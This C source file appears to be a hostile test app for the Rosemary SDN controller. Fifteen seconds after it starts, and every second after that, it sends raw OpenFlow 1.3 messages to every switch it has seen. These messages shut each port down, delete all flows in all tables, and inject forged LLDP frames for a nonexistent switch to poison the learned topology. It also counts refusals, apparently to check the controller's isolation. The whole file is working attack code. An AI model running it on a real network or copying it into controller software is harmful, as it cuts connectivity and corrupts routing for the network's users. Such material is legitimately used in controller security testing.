/* Tries to take links away from the others: fifteen seconds after its start, and every second from then on, it
 *
 *     switches its ports off (OFPT_PORT_MOD), as who deletes a link would,
 *     deletes every flow there is,
 *     sends out of each port LLDP of a switch that there is not.
 *
 * OpenFlow 1.3. */
#include <stdio.h>
#include <stdlib.h>

#include "rosemary_app.h"

#define SWITCHES 8
#define PORTS 8
#define SECOND 1000000000ull
#define ATTACK_AFTER 15

struct port {
    uint32_t port_no;
    uint8_t hw_addr[6];
};

struct at {
    uint64_t dpid;
    uint32_t epoch;
    uint32_t ports;
    struct port port[PORTS];
};

struct access {
    const struct rosemary_host *host;
    uint64_t next_ns;
    uint32_t switches;
    uint32_t refused;
    struct at at[SWITCHES];
};

static void put16(uint8_t *to, uint32_t value) {
    to[0] = (uint8_t)(value >> 8);
    to[1] = (uint8_t)value;
}

static void put32(uint8_t *to, uint32_t value) {
    put16(to, value >> 16);
    put16(to + 2, value);
}

static void head(uint8_t *out, uint8_t kind, uint16_t size) {
    memset(out, 0, size);
    out[0] = 4;
    out[1] = kind;
    put16(out + 2, size);
}

static void port_off(struct access *access, struct at *at, struct port *port) {
    uint8_t out[40];
    head(out, 16, sizeof out);
    put32(out + 8, port->port_no);
    memcpy(out + 16, port->hw_addr, 6);
    put32(out + 24, 1); /* OFPPC_PORT_DOWN */
    put32(out + 28, 1);
    rosemary_send(access->host, at->dpid, at->epoch, out, sizeof out);
}

static void delete_flows(struct access *access, struct at *at) {
    uint8_t out[56];
    head(out, 14, sizeof out);
    out[24] = 0xff; /* all tables */
    out[25] = 3;    /* OFPFC_DELETE */
    put32(out + 32, 0xffffffff);
    put32(out + 36, 0xffffffff);
    put32(out + 40, 0xffffffff);
    put16(out + 48, 1); /* a match without fields */
    put16(out + 50, 4);
    rosemary_send(access->host, at->dpid, at->epoch, out, sizeof out);
}

static void lie(struct access *access, struct at *at, struct port *port) {
    static const uint8_t lldp[] = {
        0x01, 0x80, 0xc2, 0, 0, 0x0e, 2, 0, 0, 0, 0, 9, 0x88, 0xcc, 2, 9, 7, 0, 0, 0, 0, 0, 0, 0, 9,
        4, 5, 7, 0, 0, 0, 1, 6, 2, 0, 120, 0, 0,
    };
    uint8_t out[40 + sizeof lldp];
    head(out, 13, sizeof out);
    put32(out + 8, 0xffffffff);
    put32(out + 12, 0xfffffffd); /* OFPP_CONTROLLER */
    put16(out + 16, 16);
    put16(out + 26, 16);
    put32(out + 28, port->port_no);
    memcpy(out + 40, lldp, sizeof lldp);
    rosemary_send(access->host, at->dpid, at->epoch, out, sizeof out);
}

static void attack(struct access *access) {
    char text[64];
    for (uint32_t i = 0; i < access->switches; i++) {
        struct at *at = &access->at[i];
        delete_flows(access, at);
        for (uint32_t j = 0; j < at->ports; j++) {
            port_off(access, at, &at->port[j]);
            lie(access, at, &at->port[j]);
        }
    }
    int size = snprintf(text, sizeof text, "attacked; %u refused so far", access->refused);
    access->host->log(access->host, ROSEMARY_LOG_INFO, text, (uint32_t)size);
}

static void *create(const struct rosemary_host *host) {
    struct access *access = calloc(1, sizeof *access);
    if (access)
        access->host = host;
    return access;
}

static void hear(struct access *access, const struct rosemary_record *record) {
    struct at *at = 0;
    for (uint32_t i = 0; i < access->switches; i++)
        if (access->at[i].dpid == record->dpid)
            at = &access->at[i];
    if (record->kind == ROSEMARY_SNAPSHOT_BEGIN)
        access->switches = 0;
    if (record->kind == ROSEMARY_REFUSED)
        access->refused++;
    if (record->kind == ROSEMARY_SWITCH_UP && (at || access->switches < SWITCHES)) {
        at = at ? at : &access->at[access->switches++];
        *at = (struct at){.dpid = record->dpid, .epoch = record->epoch};
    }
    if (record->kind == ROSEMARY_PORT && record->reason == ROSEMARY_PORT_ADD && at && at->ports < PORTS) {
        const struct rosemary_port *port = (const void *)rosemary_body(record);
        if (port->port_no < 0xffffff00u) {
            at->port[at->ports].port_no = port->port_no;
            memcpy(at->port[at->ports++].hw_addr, port->hw_addr, 6);
        }
    }
}

static int32_t on_batch(void *app, const struct rosemary_batch *batch,
                        struct rosemary_answer *answer) {
    struct access *access = app;
    for (uint32_t i = 0; i < batch->count; i++)
        hear(access, batch->records[i]);
    if (!access->next_ns)
        access->next_ns = batch->now_ns + ATTACK_AFTER * SECOND;
    if (batch->now_ns >= access->next_ns) {
        attack(access);
        access->next_ns = batch->now_ns + SECOND;
    }
    answer->wake_at_ns = access->next_ns;
    return 0;
}

static void destroy(void *app) {
    free(app);
}

const struct rosemary_app rosemary_app = {
    .abi = ROSEMARY_ABI,
    .size = sizeof(struct rosemary_app),
    .name = "access",
    .version = "1",
    .create = create,
    .on_batch = on_batch,
    .destroy = destroy,
};
